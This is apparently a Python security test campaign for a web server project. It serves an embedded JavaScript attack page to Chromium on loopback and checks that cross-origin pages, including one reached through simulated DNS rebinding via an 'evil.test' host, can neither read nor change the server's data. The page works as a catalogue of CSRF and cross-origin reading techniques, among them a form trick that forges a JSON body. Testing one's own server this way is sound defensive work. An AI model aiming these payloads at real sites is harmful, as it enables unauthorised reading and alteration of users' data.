"""A real browser: ``python -m tests.campaigns.browser [--browser PATH] [--history FILE] [--pictures DIRECTORY]``.

It looks at every page of the server itself (``browser_pages``), and attacks a server from other pages:

An open server holds the assignment's members on loopback. Pages on another port, under another name, and under a
name that was led to the server (DNS rebinding) try to read and to write in every way a page has, and put what they
could read into their document. A last page, whose origin the operator has named, shows that the ways are ways.
"""

import argparse
import json
import shutil
import subprocess
import sys
import tempfile
import threading
from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from http.client import HTTPConnection
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import sqlalchemy as sa

from ftlserver.serving.server import Server, listen
from ftlserver.storage import Storage
from ftlserver.storage.database import transaction
from ftlserver.web.app import create_app
from ftlserver.web.middleware import Policy
from tests.campaigns import browser_pages
from tests.campaigns.devtools import QUIET_FLAGS
from tests.campaigns.running import NotTriedError
from tests.conftest import EGON, GLINDA, assignment_periods

SECRET = "Spengler"
ELSEWHERE = "127.0.0.2"  # where the attacker's name leads
FLAGS = [
    *QUIET_FLAGS,
    "--disable-popup-blocking",
    f"--host-resolver-rules=MAP evil.test {ELSEWHERE}, EXCLUDE 127.0.0.1, EXCLUDE localhost",
    "--remote-debugging-port=0",  # or it goes when the page is loaded
]

PAGE = """<!doctype html><title>attack</title><body><script>
const TARGET = "@TARGET@", found = [];
const say = (way, what) => found.push(way + ": " + String(what).slice(0, 300));
const period = {user_id: "W012A3CDE", start_time: "2026-01-05T09:00:00Z", end_time: "2026-01-05T10:00:00Z"};
const WRITES = [
  ["POST", "/api/activity/", {periods: [period]}],
  ["POST", "/api/heartbeat/", {user_id: "W012A3CDE"}],
  ["POST", "/api/users/", {id: "evil", real_name: "E", tz: "UTC"}],
  ["PUT", "/api/users/evil/", {real_name: "E", tz: "UTC"}],
  ["PATCH", "/api/users/W012A3CDE/", {real_name: "E"}],
  ["DELETE", "/api/users/W07QCRPA4/", undefined],
  ["DELETE", "/api/activity/", {periods: [period]}],
];
const PAGES = ["/", "/timeline.json?members=W012A3CDE", "/board.csv", "/members/W012A3CDE", "/login"];
const FORMS = [["/login", {token: "x", next: "/"}], ["/logout", {}]];
const READS = [
  ...PAGES.map((path) => ["GET", path, undefined]),
  ["GET", "/api/users/", undefined],
  ["GET", "/api/export/", undefined],
  ["GET", "/api/users/W012A3CDE/export/", undefined],
  ["GET", "/api/loguseractivity/?id=W012A3CDE", undefined],
  ["POST", "/api/loguseractivity/", {id_list: ["W012A3CDE"]}],
];
const TYPES = ["application/json", "text/plain", "application/x-www-form-urlencoded", "application/x-ndjson", null];

async function tryFetch(method, path, body, mode, type, credentials) {
  const way = ["fetch", mode, credentials, method, path, type].join(" ");
  try {
    const options = {method, mode, credentials, headers: type ? {"Content-Type": type} : {}};
    if (body !== undefined) options.body = type ? JSON.stringify(body) : new Blob([JSON.stringify(body)]);
    const response = await fetch(TARGET + path, options);
    say(way, response.type + " " + response.status + " " + await response.text());
  } catch (error) { say(way, error.name); }
}
function tryRequest(method, path, body, type) {
  return new Promise((resolve) => {
    const request = new XMLHttpRequest(), way = ["xhr", method, path, type].join(" ");
    request.onloadend = () => { say(way, request.status + " " + request.responseText); resolve(); };
    request.open(method, TARGET + path);
    if (type) request.setRequestHeader("Content-Type", type);
    try { request.send(body && JSON.stringify(body)); }
    catch (error) { say(way, error.name); resolve(); }
  });
}
function tryElement(tag, attribute, path, more) {
  return new Promise((resolve) => {
    const element = document.createElement(tag), way = [tag, path].join(" ");
    let ended = false;
    const end = (what) => {
      let text = "";
      if (ended) return;
      ended = true;
      try { text = element.contentDocument ? element.contentDocument.documentElement.textContent : ""; }
      catch (error) { text = error.name; }
      say(way, what + " " + text); resolve();
    };
    element.onload = () => end("load"); element.onerror = () => end("error"); setTimeout(() => end("nothing"), 1000);
    Object.assign(element, more || {}); element[attribute] = TARGET + path; document.body.append(element);
  });
}
function tryForm(method, path, enctype, fields) {
  return new Promise((resolve) => {
    const name = "frame" + Math.random(), frame = document.createElement("iframe");
    frame.name = name; document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, {method, action: TARGET + path, enctype, target: name});
    for (const [key, value] of Object.entries(fields)) {
      const input = document.createElement("input");
      Object.assign(input, {type: "hidden", name: key, value}); form.append(input);
    }
    document.body.append(form);
    form.submit();
    setTimeout(() => {
      let text;
      try { text = frame.contentDocument ? frame.contentDocument.documentElement.textContent : "no document"; }
      catch (error) { text = error.name; }
      say(["form", method, path, enctype].join(" "), text); resolve();
    }, 300);
  });
}
function tryWindow(path) {
  return new Promise((resolve) => {
    const other = window.open(TARGET + path);
    setTimeout(() => {
      let text;
      try { text = other ? other.document.documentElement.textContent : "no window"; }
      catch (error) { text = error.name; }
      say("window " + path, text); if (other) other.close(); resolve();
    }, 700);
  });
}
function trySocket(kind, path) {
  return new Promise((resolve) => {
    const url = kind === "WebSocket" ? TARGET.replace("http", "ws") + path : TARGET + path;
    try {
      const source = kind === "WebSocket" ? new WebSocket(url) : new EventSource(url, {withCredentials: true});
      source.onmessage = (event) => { say(kind + " " + path, event.data); resolve(); };
      source.onerror = () => { say(kind + " " + path, "error"); source.close(); resolve(); };
    } catch (error) { say(kind, error.name); resolve(); }
    setTimeout(resolve, 1000);
  });
}
(async () => {
  for (const [method, path, body] of [...READS, ...WRITES]) {
    for (const mode of ["cors", "no-cors"]) {
      for (const credentials of ["omit", "include"]) {
        for (const type of body ? TYPES : [null]) await tryFetch(method, path, body, mode, type, credentials);
      }
    }
    for (const type of body ? TYPES : [null]) await tryRequest(method, path, body, type);
    if (method === "POST") {
      for (const type of TYPES.slice(0, 4)) {
        let sent;
        try { sent = navigator.sendBeacon(TARGET + path, new Blob([JSON.stringify(body)], {type})); }
        catch (error) { sent = error.name; }
        say(["beacon", path, type].join(" "), sent);
      }
      // A body that is JSON, from a form: the name up to the "=" and the value after it.
      const text = JSON.stringify(body).slice(0, -1) + ',"x":"';
      await tryForm("post", path, "text/plain", {[text]: '"}'});
      await tryForm("post", path, "application/x-www-form-urlencoded", {json: JSON.stringify(body)});
      await tryForm("post", path, "multipart/form-data", {json: JSON.stringify(body)});
    }
  }
  for (const [path, fields] of FORMS) {
    for (const type of TYPES) await tryFetch("POST", path, fields, "no-cors", type, "include");
    await tryForm("post", path, "application/x-www-form-urlencoded", fields);
    await tryForm("post", path, "text/plain", fields);
  }
  for (const [method, path] of READS.slice(0, 4 + PAGES.length)) {
    await tryElement("img", "src", path);
    await tryElement("script", "src", path);
    await tryElement("script", "src", path, {type: "module"});
    await tryElement("link", "href", path, {rel: "stylesheet"});
    await tryElement("iframe", "src", path);
    await tryElement("object", "data", path);
    await tryElement("embed", "src", path);
    await tryElement("video", "src", path);
    await tryForm("get", path, "", {id: "W012A3CDE"});
    await trySocket("EventSource", path);
    await trySocket("WebSocket", path);
    await tryWindow(path);
  }
  document.body.textContent = JSON.stringify(found);
  await fetch("/report", {method: "POST", body: document.body.textContent});
})();
</script>"""


class _Attacker(ThreadingHTTPServer):
    """Gives the page, and hands all else on to *behind*, as a name does that has been led there."""

    daemon_threads = True

    def __init__(self, address: tuple[str, int], target: str, behind: int | None = None) -> None:
        super().__init__(address, _Handler)
        self.page = PAGE.replace("@TARGET@", target).encode()
        self.behind = behind
        self.report: list[str] = []
        self.reported = threading.Event()


class _Handler(BaseHTTPRequestHandler):
    server: _Attacker

    def _answer(self) -> None:
        if self.path == "/attack":
            self._send(200, [("Content-Type", "text/html")], self.server.page)
        elif self.path == "/report":
            self.server.report = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            self._send(200, [], b"")
            self.server.reported.set()
        elif self.server.behind is None or self.path == "/favicon.ico":
            self._send(404, [], b"")
        else:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            connection = HTTPConnection("127.0.0.1", self.server.behind, timeout=10)
            connection.putrequest(self.command, self.path, skip_host=True, skip_accept_encoding=True)
            for name, value in self.headers.items():
                connection.putheader(name, value)
            connection.endheaders(body)
            response = connection.getresponse()
            skipped = ("transfer-encoding", "content-length", "connection")
            headers = [(name, value) for name, value in response.getheaders() if name.lower() not in skipped]
            self._send(response.status, headers, response.read())
            connection.close()

    do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = do_OPTIONS = _answer  # noqa: N815

    def _send(self, status: int, headers: list[tuple[str, str]], body: bytes) -> None:
        self.send_response(status)
        for name, value in headers:
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_arguments: object) -> None:
        pass


@dataclass
class Outcome:
    """What came of one page."""

    ways: int
    statuses: Counter[str]
    has_read: bool
    has_changed: bool


@contextmanager
def attacking(attacker: _Attacker) -> Iterator[None]:
    thread = threading.Thread(target=attacker.serve_forever)
    thread.start()
    try:
        yield
    finally:
        attacker.shutdown()
        thread.join()
        attacker.server_close()


def dump(storage: Storage) -> list[Any]:
    with transaction(storage.database) as connection:
        tables = ("users", "activity_periods", "tokens", "migrations")
        return [connection.execute(sa.text(f"SELECT * FROM {table}")).all() for table in tables]


def visit(browser: str, url: str, attacker: _Attacker) -> list[str]:
    """Open a page and return what it found, once it has come to its end."""
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile:
        command = [browser, *FLAGS, f"--user-data-dir={profile}", f"{url}/attack"]
        with subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as process:
            has_ended = attacker.reported.wait(180)
            process.terminate()
    assert has_ended, "the page did not come to its end"
    return attacker.report


def attack(browser: str, kind: str) -> Outcome:
    """Let one page do its worst to a server of its own."""
    statuses: Counter[str] = Counter()
    with (
        tempfile.TemporaryDirectory() as directory,
        Storage.open(f"{directory}/ftl.sqlite3", threads=8) as storage,
    ):
        storage.bulk_import.store([EGON, GLINDA], assignment_periods(EGON) + assignment_periods(GLINDA))
        listener = listen("127.0.0.1", 0)
        port = listener.getsockname()[1]
        if kind == "rebinding":
            page, attacker = f"http://evil.test:{port}", _Attacker((ELSEWHERE, port), "", behind=port)
        elif kind == "another port":
            attacker = _Attacker(("127.0.0.1", 0), f"http://127.0.0.1:{port}")
            page = f"http://127.0.0.1:{attacker.server_port}"
        else:
            attacker = _Attacker((ELSEWHERE, 0), f"http://localhost:{port}")
            page = f"http://evil.test:{attacker.server_port}"
        policy = Policy.of("127.0.0.1", origins=[page] if kind == "a named origin" else [])
        application = create_app(storage, policy)

        def counting(environ: Any, start_response: Any) -> Any:
            def respond(status: str, *more: Any) -> Any:
                statuses[status[:3]] += 1
                return start_response(status, *more)

            return application(environ, respond)

        server = Server(counting, listener, 4)
        thread = threading.Thread(target=server.run)
        thread.start()
        before = dump(storage)
        try:
            with attacking(attacker):
                found = visit(browser, page, attacker)
        finally:
            server.stop()
            thread.join()
        has_changed = dump(storage) != before
    return Outcome(len(found), statuses, any(SECRET in text for text in found), has_changed)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--browser", default=shutil.which("chromium"), help="the program (%(default)s)")
    parser.add_argument("--only", choices=["pages", "attack"], help="one part")
    parser.add_argument("--axe", type=Path, metavar="FILE", help="axe.min.js of axe-core; without it, from npm")
    parser.add_argument("--history", type=Path, metavar="FILE", help="a gzipped git fast-import stream to look at")
    parser.add_argument("--pictures", type=Path, metavar="DIRECTORY", help="write a picture of each page")
    args = parser.parse_args()
    if args.browser is None:
        print("not tried: there is no Chromium here; name one with --browser", file=sys.stderr)
        return 0
    failed = False
    if args.only != "attack":
        failed |= _look(args)
    if args.only != "pages":
        failed |= _attack(args.browser)
    return int(failed)


def _look(args: argparse.Namespace) -> bool:
    """Look at every page; tell whether one has faults."""
    with tempfile.TemporaryDirectory() as directory:
        try:
            axe = browser_pages.axe_core(args.axe, Path(directory))
        except NotTriedError as exc:
            print(f"pages: not tried: {exc}", file=sys.stderr)
            return False
        found = browser_pages.look(args.browser, axe, args.history, args.pictures)
    print(f"pages: {found}", *found.wrong, sep="\n  ", flush=True)
    return bool(found.wrong)


def _attack(browser: str) -> bool:
    """Let each page attack; tell whether one read or changed what it should not."""
    failed = False
    for kind in ("another port", "another name", "rebinding", "a named origin"):
        outcome = attack(browser, kind)
        is_expected = kind == "a named origin"
        failed |= outcome.has_read != is_expected or outcome.has_changed != is_expected
        answers = ", ".join(f"{count} x {status}" for status, count in sorted(outcome.statuses.items()))
        print(
            f"{kind}: {outcome.ways} ways tried, {'something' if outcome.has_read else 'nothing'} read,"
            f" {'something' if outcome.has_changed else 'nothing'} changed; the server answered {answers}",
            flush=True,
        )
    return failed


if __name__ == "__main__":
    sys.exit(main())
